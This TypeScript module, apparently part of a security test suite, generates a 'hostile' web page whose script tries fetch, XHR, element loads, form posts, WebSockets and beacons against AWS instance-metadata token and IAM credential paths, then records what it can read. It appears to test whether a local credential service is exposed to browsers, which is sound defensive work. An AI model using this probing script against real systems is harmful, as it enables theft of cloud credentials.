/** @module What a hostile page does: it runs in the browser, as text, and keeps whatever it gets hold of. */

const TOKEN = "/latest/api/token";
const LIST = "/latest/meta-data/iam/security-credentials/";
const TARGETS = [TOKEN, LIST, `${LIST}orders-reader`, "/container/orders-reader", "/"];

/** A page whose script tries every way to each of `origins`, and sets `result` when it is through. */
export function hostilePage(origins: readonly string[]): string {
  const script = `(${attack.toString()})(${JSON.stringify(origins)}, ${JSON.stringify(TARGETS)})`;
  return `<!doctype html><title>hostile</title><body><script>${script}</script>`;
}

/** One attempt, and what of the answer the page could see. */
export interface Attempt {
  readonly way: string;
  readonly url: string;
  /** Whether the page was told of success. */
  readonly worked: boolean;
  readonly saw: string;
}

/** Runs in the page; nothing from outside may be used here. */
/* oxlint-disable unicorn/consistent-function-scoping */
function attack(origins: readonly string[], targets: readonly string[]): void {
  // oxlint-disable-next-line typescript/no-explicit-any -- a browser's world, which Node's types do not know
  const page = globalThis as any;
  const attempts: Attempt[] = [];
  const note = (way: string, url: string, worked: boolean, saw: unknown) =>
    void attempts.push({ way, url, worked, saw: String(saw) });
  const ttl = { "X-aws-ec2-metadata-token-ttl-seconds": "21600" };
  const within = (work: Promise<unknown>) =>
    Promise.race([work, new Promise((resolve) => setTimeout(resolve, 3_000))]);

  const fetched = async (way: string, url: string, init: object) => {
    try {
      const response = await fetch(url, init);
      const headers = JSON.stringify(Object.fromEntries(response.headers));
      note(way, url, response.ok, `${response.status} ${headers} ${await response.text()}`);
    } catch (error) {
      note(way, url, false, error);
    }
  };
  const requested = (way: string, url: string, method: string, headers: Record<string, string>) =>
    new Promise<void>((resolve) => {
      const request = new page.XMLHttpRequest();
      request.addEventListener("loadend", () => {
        const worked = request.status >= 200 && request.status < 300;
        note(way, url, worked, `${request.status} ${request.responseText}`);
        resolve();
      });
      request.open(method, url);
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.send();
    });
  const loaded = (tag: string, url: string) =>
    new Promise<void>((resolve) => {
      const element = page.document.createElement(tag);
      const end = (worked: boolean) => {
        // A frame loads an error page as well: what counts is what can be read in it.
        const inside = tag === "iframe" ? readFrame(element) : "";
        note(tag, url, tag === "iframe" ? inside !== "" : worked, inside);
        resolve();
      };
      element.addEventListener("load", () => end(true));
      element.addEventListener("error", () => end(false));
      element[tag === "link" ? "href" : "src"] = url;
      element.rel = "stylesheet";
      page.document.body.append(element);
    });
  const readFrame = (frame: { contentDocument?: { body?: { innerText?: string } } }) => {
    try {
      return frame.contentDocument?.body?.innerText ?? "";
    } catch {
      return "";
    }
  };
  const submitted = (url: string) =>
    new Promise<void>((resolve) => {
      const frame = page.document.createElement("iframe");
      frame.name = `frame-${url}`;
      const form = page.document.createElement("form");
      Object.assign(form, { method: "POST", action: url, target: frame.name });
      page.document.body.append(frame, form);
      frame.addEventListener("load", () => {
        note("form", url, readFrame(frame) !== "", readFrame(frame));
        resolve();
      });
      form.submit();
    });
  const opened = (url: string) =>
    new Promise<void>((resolve) => {
      const socket = new page.WebSocket(url.replace("http", "ws"));
      socket.addEventListener("message", ({ data }: { data: unknown }) =>
        note("websocket", url, true, data),
      );
      socket.addEventListener("open", () => note("websocket", url, true, "open"));
      socket.addEventListener("close", () => {
        note("websocket", url, false, "closed");
        resolve();
      });
    });

  const run = async () => {
    for (const origin of origins) {
      for (const target of targets) {
        const url = origin + target;
        await Promise.all(
          [
            fetched("fetch PUT", url, { method: "PUT", headers: ttl }),
            fetched("fetch GET", url, { referrerPolicy: "no-referrer", credentials: "omit" }),
            fetched("fetch GET with a token", url, {
              headers: { "X-aws-ec2-metadata-token": "x" },
            }),
            fetched("fetch no-cors", url, { mode: "no-cors", referrerPolicy: "no-referrer" }),
            requested("xhr PUT", url, "PUT", ttl),
            requested("xhr GET", url, "GET", {}),
            loaded("img", url),
            loaded("script", url),
            loaded("iframe", url),
            loaded("link", url),
            submitted(url),
            opened(url),
          ].map(within),
        );
        page.navigator.sendBeacon(url, "x");
      }
    }
    page.result = attempts;
  };
  run().catch((error: unknown) => {
    page.result = String(error);
  });
}
